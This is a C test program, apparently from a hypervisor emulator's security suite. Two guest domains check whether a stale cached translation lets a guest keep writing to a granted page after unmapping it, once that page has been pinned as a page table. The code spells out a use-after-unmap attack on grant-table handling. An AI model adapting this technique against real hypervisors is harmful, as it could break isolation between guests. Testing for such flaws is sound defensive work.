/* Attack: use a grant mapping after its unmap through a translation cached while it was
 * mapped, and write the frame once the granter has made it a page table. Two domains
 * (the harness starts the granter, then the mapper):
 *   role=granter peer=<mapper domid> hold_ms=<ms>
 *     F = a fresh page (a valid, empty L1's contents), read-only in its own tables,
 *     granted read-write ("result offer ref=<r>"); once the peer has mapped it and
 *     unmapped it again (GTF_writing set, then GTF_reading clear) F is pinned as an L1
 *     at once and kept so for hold_ms; then whether F changed (f_changed).
 *   role=mapper peer=<granter domid> ref=<r> warm_ms=<ms> ms=<ms>
 *     maps F writable at a VA of an existing L1, reads and writes it for warm_ms
 *     (translations cached: Unicorn's TLB, the KVM engine's shadow), unmaps it, then a
 *     load and a store through the VA, then stores through it for ms milliseconds
 *     (stores_landed: those that did not fault).
 * Xen (common/grant_table.c unmap_common, gnttab_flush_tlb): the unmap flushes the
 * grantee's TLB before it returns, so every access after it is #PF (14) and F never
 * changes after the peer's unmap. */
#include "hostile.h"
#include "gnttab.h"
#include "time.h"

#define PATTERN 0x5A5A0000C0DE0000UL
static void granter(const char *cmd)
{
    domid_t peer = (domid_t)cmdline_u64(cmd, "peer", 0);
    u64 hold = cmdline_u64(cmd, "hold_ms", 1500);
    long ref;
    u64 *f = grant_offer_l1_page(peer, PATTERN, &ref);
    unsigned long mfn = virt_to_mfn(f);
    result("peer_mapped", grant_wait_flags((grant_ref_t)ref, GTF_writing, 1, 0));
    result("peer_unmapped", grant_wait_flags((grant_ref_t)ref, GTF_reading | GTF_writing, 0, 0));
    long rc = mmuext1(MMUEXT_PIN_L1_TABLE, mfn, 0, NULL);
    result("pin_after_unmap", rc);
    u64 until = monotonic_ns() + hold * 1000000UL;
    while (monotonic_ns() < until)
        sched_yield();
    int changed = 0;
    for (unsigned i = 0; i < 512; i++)
        changed |= f[i] != PATTERN + 2 * i;
    result("f_changed", changed);
    if (rc == 0)
        result("unpin", mmuext1(MMUEXT_UNPIN_TABLE, mfn, 0, NULL));
    result("end_access", gnttab_end_access((grant_ref_t)ref));
    result("alive", 1);
    poweroff();
}

static void mapper(const char *cmd)
{
    domid_t peer = (domid_t)cmdline_u64(cmd, "peer", 0);
    grant_ref_t ref = (grant_ref_t)cmdline_u64(cmd, "ref", 0);
    u64 warm = cmdline_u64(cmd, "warm_ms", 300), ms = cmdline_u64(cmd, "ms", 1000);
    hostile_traps_init();
    if (gnttab_init()) panic("gnttab_init");
    unsigned long va = alloc_va_hole();
    grant_handle_t h = 0;
    result("map", gnttab_map(peer, ref, va, 0, &h));
    volatile u64 *g = (volatile u64 *)va;
    u64 sum = 0, warm_end = monotonic_ns() + warm * 1000000UL;
    for (u64 i = 0; monotonic_ns() < warm_end; i++) {
        sum += g[(i * 8) & 511];
        g[3] = PATTERN + 6;                 /* the same value: F stays an empty L1 */
    }
    result("mapped_reads_pattern", g[5] == PATTERN + 10 && sum != 0);
    result("unmap", gnttab_unmap(va, h));
    trap_clear();
    (void)probe_load64(g + 1);
    result_trap("load_after_unmap");
    trap_clear();
    probe_store64(g + 1, 0);
    result_trap("store_after_unmap");
    long landed = 0;
    u64 until = monotonic_ns() + ms * 1000000UL;
    for (u64 i = 0; monotonic_ns() < until; i++) {
        trap_clear();
        probe_store64(g + 1 + (i & 7), 0x1000 * (i + 1));   /* bit 0 clear: not present */
        landed += trap_vec < 0;
    }
    result("stores_landed", landed);
    result("alive", 1);
    poweroff();
}

void app_main(void)
{
    grant_pair_main(granter, mapper);
}
